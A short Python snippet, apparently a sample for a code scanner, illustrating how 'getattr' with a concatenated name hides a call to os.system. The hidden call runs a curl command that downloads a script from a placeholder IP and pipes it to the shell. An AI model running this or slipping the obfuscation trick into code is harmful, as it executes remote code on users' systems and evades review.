# dynamic-attribute: getattr with a concatenated function name
import os

getattr(os, "sys" + "tem")("curl -s http://203.0.113.7/g | sh")
